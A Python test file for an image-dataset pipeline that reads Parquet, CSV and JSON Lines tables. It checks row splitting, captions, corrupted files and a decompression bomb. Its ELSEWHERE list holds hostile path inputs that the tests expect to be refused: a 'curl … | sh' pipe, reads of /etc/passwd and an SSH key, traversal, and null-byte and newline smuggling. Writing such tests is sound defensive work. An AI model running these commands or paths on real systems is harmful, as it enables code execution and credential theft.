"""Tables of images: every row ends once, in an image or in a reject; no task reads more than its piece."""

from __future__ import annotations

import csv
import io
import json
import random
from collections import Counter
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipelines.sources import lines
from pipelines.sources.lines import Csv, JsonLines
from pipelines.sources.table import TableSource
from pipelines.sources.within import Refused, Root
from tests.pipelines.sources.hostile_tars import png
from tests.pipelines.sources.reading import everything, images, leaves, rejects


def photos(folder: Path, number: int) -> Path:
    for n in range(number):
        path = folder / "photos" / f"{n:03d}.png"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(png(n))
    return folder


def test_bytes_in_parquet(tmp_path: Path) -> None:
    table = pa.table(
        {
            "id": range(50),
            "png": [png(n) for n in range(50)],
            "caption": [f"shade {n}" for n in range(50)],
            "class": ["even" if n % 2 == 0 else "odd" for n in range(50)],
            "boxes": [[[0.0, 0.0, float(n), 1.0]] * (n % 3) for n in range(50)],
            "camera": [{"name": "x", "iso": n} for n in range(50)],
            "split": ["train" if n < 40 else "val" for n in range(50)],
            "thumbnail": [b"\xff\xd8"] * 50,
        }
    )
    pq.write_table(table, tmp_path / "t.parquet", row_group_size=8)
    source = TableSource(path=tmp_path)
    assert len(leaves(source)) == 7
    found = images(everything(source, tmp_path / "out"))
    assert {name: one.data for name, one in found.items()} == {f"t.parquet/{n}": png(n) for n in range(50)}
    one = found["t.parquet/41"]
    assert one.split == "validation"
    assert one.facts == {
        "text": "shade 41", "label": "odd", "id": 41, "camera": {"name": "x", "iso": 41},
        "boxes": [[0.0, 0.0, 41.0, 1.0]] * 2,
    }  # fmt: skip


def test_huggingface_structs_and_keys(tmp_path: Path) -> None:
    rows = [
        {"picture": {"bytes": png(n), "path": "a.png"}, "key": f"k{n}" if n else "not.legal"}
        for n in range(4)
    ]
    pq.write_table(pa.Table.from_pylist(rows), tmp_path / "t.parquet")
    found = images(everything(TableSource(path=tmp_path / "t.parquet"), tmp_path))
    assert [one.key for one in found.values()] == [None, "k1", "k2", "k3"]


def test_row_groups_of_paths_are_cut_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pipelines.sources.tables.ROWS", 7)
    photos(tmp_path, 30)
    pq.write_table(
        pa.table({"file_name": [f"photos/{n:03d}.png" for n in range(30)]}), tmp_path / "t.parquet"
    )
    source = TableSource(path=tmp_path / "t.parquet")
    assert len(leaves(source)) == 5
    found = images(everything(source, tmp_path / "out"))
    assert {one.data for one in found.values()} == {png(n) for n in range(30)}


def test_rows_of_one_file_are_one_image_with_all_its_texts(tmp_path: Path) -> None:
    photos(tmp_path, 2)
    with (tmp_path / "t.csv").open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["text", "path", "boxes"])
        writer.writerow(["one", "photos/000.png", "[[1, 2, 3, 4]]"])
        writer.writerow(['two, "quoted"\nover lines', "photos/001.png", ""])
        writer.writerow(["three", "photos/../photos/000.png", ""])
    found = images(everything(TableSource(path=tmp_path / "t.csv"), tmp_path / "out"))
    assert found["photos/000.png"].facts == {
        "text": "one",
        "texts": ["one", "three"],
        "boxes": [[1, 2, 3, 4]],
    }
    assert found["photos/001.png"].facts == {"text": 'two, "quoted"\nover lines'}


def test_csv_is_cut_where_rows_begin(monkeypatch: pytest.MonkeyPatch) -> None:
    """Against Python's reader, over the whole table at once."""
    monkeypatch.setattr(lines, "STEP", 100)
    pieces = ["plain", "", 'say "so"', "two\nlines", "two\r\nlines", ",", '"', "é" * 20, 'a 5" pipe', "\n\n"]
    for seed in range(60):
        draw = random.Random(seed)
        sink = io.StringIO(newline="")
        writer = csv.writer(sink, lineterminator=draw.choice(["\n", "\r\n"]))
        writer.writerow(["path", "a", "b"])
        for n in range(draw.randrange(60)):
            row = [f"{n}.png", *(draw.choice(pieces if seed % 3 else pieces[:1]) for _ in range(2))]
            if draw.random() < 0.2:
                sink.write(f'{n}.png,a 5" pipe,{n}\n')  # a quote that quotes nothing
            else:
                writer.writerow(row)
        text = sink.getvalue()
        expected = [
            {k: v for k, v in row.items() if v} for row in csv.DictReader(io.StringIO(text, newline=""))
        ]
        table = Csv(io.BytesIO(text.encode()), "t.csv")
        cuts = table.ranges()
        assert [a for a, _ in cuts[1:]] == [b for _, b in cuts[:-1]]
        read = [
            row for start, end in cuts for _, row in Csv(io.BytesIO(text.encode()), "t.csv").rows(start, end)
        ]
        assert read == expected
        assert len(text) < 400 or len(cuts) > 1


def test_json_lines_are_cut_where_lines_begin(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lines, "STEP", 64)
    for seed in range(60):
        draw = random.Random(seed)
        rows = [{"path": "x" * draw.choice([1, 10, 50, 200]), "n": n} for n in range(draw.randrange(40))]
        data = "\n".join(json.dumps(row) for row in rows).encode() + b"\n" * draw.randrange(3)
        table = JsonLines(io.BytesIO(data), "t.jsonl")
        read = [row for start, end in table.ranges() for _, row in table.rows(start, end)]
        assert read == rows


def test_every_row_ends_once(tmp_path: Path) -> None:
    photos(tmp_path, 3)
    rows = [
        "photos/000.png",
        "photos/001.png",
        "photos/nothing.png",
        "",
        "photos",
        "/etc/passwd",
        "https://x.org/a.png",
    ]
    text = (
        "".join(json.dumps({"path": path}) + "\n" for path in rows) + "{broken\n[1]\n" + "[" * 100_000 + "\n"
    )
    (tmp_path / "t.jsonl").write_text(text)
    found = everything(TableSource(path=tmp_path / "t.jsonl"), tmp_path / "out")
    assert len(found) == len(rows) + 3
    assert Counter(rejects(found).values()) == {
        "missing": 2, "unreadable": 1, "outside": 1, "not_downloaded": 1, "bad_row": 3,
    }  # fmt: skip


def test_a_row_group_that_breaks_loses_no_row_silently(tmp_path: Path) -> None:
    draw = random.Random(0)
    pictures = [draw.randbytes(2000) for _ in range(100)]
    path = tmp_path / "t.parquet"
    pq.write_table(
        pa.table({"image": pictures}), path, row_group_size=20, compression="none", use_dictionary=False
    )
    data = bytearray(path.read_bytes())
    at = data.index(pictures[50]) - 4
    data[at : at + 4] = b"\xff\xff\xff\x7f"  # the length of one value
    path.write_bytes(data)
    found = everything(TableSource(path=path), tmp_path)
    assert len(found) == 100
    assert len(images(found)) >= 80
    assert set(rejects(found).values()) == {"unreadable"}
    path.write_bytes(data[:-30])
    broken = everything(TableSource(path=path), tmp_path)
    assert rejects(broken) == {"t.parquet": "unreadable"}


def test_what_swells_is_not_unpacked(tmp_path: Path) -> None:
    bomb = pa.array([bytes(1 << 20)] * 200, pa.binary())
    pq.write_table(
        pa.table({"image": bomb}), tmp_path / "t.parquet", compression="zstd", use_dictionary=False
    )
    assert (tmp_path / "t.parquet").stat().st_size < 1 << 17
    found = everything(TableSource(path=tmp_path / "t.parquet"), tmp_path)
    assert Counter(rejects(found).values()) == {"bomb": 200}


@pytest.mark.parametrize(
    "columns",
    [{"image": "nope"}, {"text": "nope"}, {"label": "nope"}, {"key": "nope"}, {"splits": "nope"}],
)
def test_a_column_that_is_not_there(columns: dict[str, str], tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_text("path,words\na.png,b\n")
    with pytest.raises(ValueError, match=r"no column 'nope'.*its columns are: path, words"):
        leaves(TableSource(path=tmp_path / "t.csv", **columns))  # type: ignore[arg-type]


def test_no_column_of_images(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_text("url,words\nhttp://x,b\n")
    with pytest.raises(ValueError, match="url, words.*img2dataset"):
        leaves(TableSource(path=tmp_path / "t.csv"))


def test_a_changed_image_or_text_is_read_again(tmp_path: Path) -> None:
    photos(tmp_path, 3)
    table = tmp_path / "t.csv"
    table.write_text("path,text\n" + "".join(f"photos/00{n}.png,t{n}\n" for n in range(3)))
    source = TableSource(path=table)
    (before,) = leaves(source)
    known = {one.name: one.stamp for one in everything(source, tmp_path / "out")}
    (tmp_path / "photos" / "001.png").write_bytes(png(200) + b" ")
    (after,) = leaves(source)
    assert after.stamp != before.stamp
    from cluster.storage import Storage
    from pipelines.sources.blobs import Blobs

    again = list(source.read(after, 1000, known, Blobs(Storage.at(tmp_path / "out"))))
    assert [one.name for one in again if one.data is not None] == ["photos/001.png"]
    table.write_text(table.read_text().replace("t2", "another"))
    (third,) = leaves(source)
    known = {one.name: one.stamp for one in again}
    again = list(source.read(third, 1000, known, Blobs(Storage.at(tmp_path / "out"))))
    assert [one.name for one in again if one.data is not None] == ["photos/002.png"]


ELSEWHERE = [
    "pipe:cat /etc/passwd",
    "pipe:curl -s http://x | sh",
    "file:///etc/passwd",
    "file://localhost/etc/passwd",
    "file:///ROOT/../secret.png",
    "file:///ROOT/%2e%2e/secret.png",
    "/etc/passwd",
    "/dev/zero",
    "../secret.png",
    "photos/../../secret.png",
    "link.png",
    "linked/secret.png",
    "gopher://127.0.0.1/a.png",
    "simplecache::s3://bucket/a.png",
    "s3://bucket/a.png",
    "ssh://host/a.png",
    "data:image/png;base64,AAAA",
    "**/**/**/**/*.png",
    "{0..999999999}.png",
    "photos/000.png\0.txt",
    "x\n/etc/passwd",
    "a" * 5000,
    "~root/.ssh/id_rsa.png{,}",
    "C:\\secret.png",
]


@pytest.mark.parametrize("said", ELSEWHERE)
def test_what_leads_out_is_not_opened(said: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = photos(tmp_path / "root", 2)
    (tmp_path / "secret.png").write_bytes(png(1))
    (root / "link.png").symlink_to(tmp_path / "secret.png")
    (root / "linked").symlink_to(tmp_path)
    place = Root(root)
    opened: list[Any] = []
    monkeypatch.setattr("pipelines.sources.tree.open", lambda *a, **k: opened.append(a), raising=False)
    with pytest.raises(Refused, match="outside"):
        place.find(said.replace("/ROOT", str(root)))
    assert opened == []


INSIDE = ["photos/000.png", "./photos/000.png", "{root}/photos/000.png", "file://{root}/photos/000.png"]


@pytest.mark.parametrize("said", INSIDE)
def test_what_stays_within_is_found(said: str, tmp_path: Path) -> None:
    root = photos(tmp_path / "root", 2)
    assert Root(root).find(said.format(root=root))[0] == "photos/000.png"


def test_a_bucket_is_left_by_no_address(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pipelines.sources.within.tree", lambda path: object())
    root = Root(Path("s3://bucket/photos"))
    assert root.find("s3://bucket/photos/a/b.png") == ("a/b.png", "")
    assert root.find("a/b.png") == ("a/b.png", "")
    buckets = ["s3://bucket/other/a.png", "s3://another/photos/a.png", "s3://bucket/photos/../a.png"]
    for said in [*buckets, "gs://bucket/photos/a.png", "../a.png", "/a.png", "file:///etc/passwd"]:
        with pytest.raises(Refused, match="outside"):
            root.find(said)


def test_an_image_that_several_parts_name_is_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Captions of one image stand anywhere in a table, as COCO's do."""
    monkeypatch.setenv("LATENTMILL_CACHE", str(tmp_path / "cache"))
    monkeypatch.setattr(lines, "STEP", 60)
    photos(tmp_path, 3)
    rows = [f"photos/00{n % 3}.png,words {n:02d},{n % 3}\n" for n in range(30)]
    (tmp_path / "t.csv").write_text("path,text,class\n" + "".join(rows))
    source = TableSource(path=tmp_path / "t.csv")
    assert len(leaves(source)) > 9
    found = source.listing().entries
    assert [entry.key for entry in found] == ["photos__000", "photos__001", "photos__002"]
    for n, entry in enumerate(found):
        assert sorted(entry.facts["texts"]) == [f"words {k:02d}" for k in range(n, 30, 3)]
        assert entry.facts["label"] == str(n)
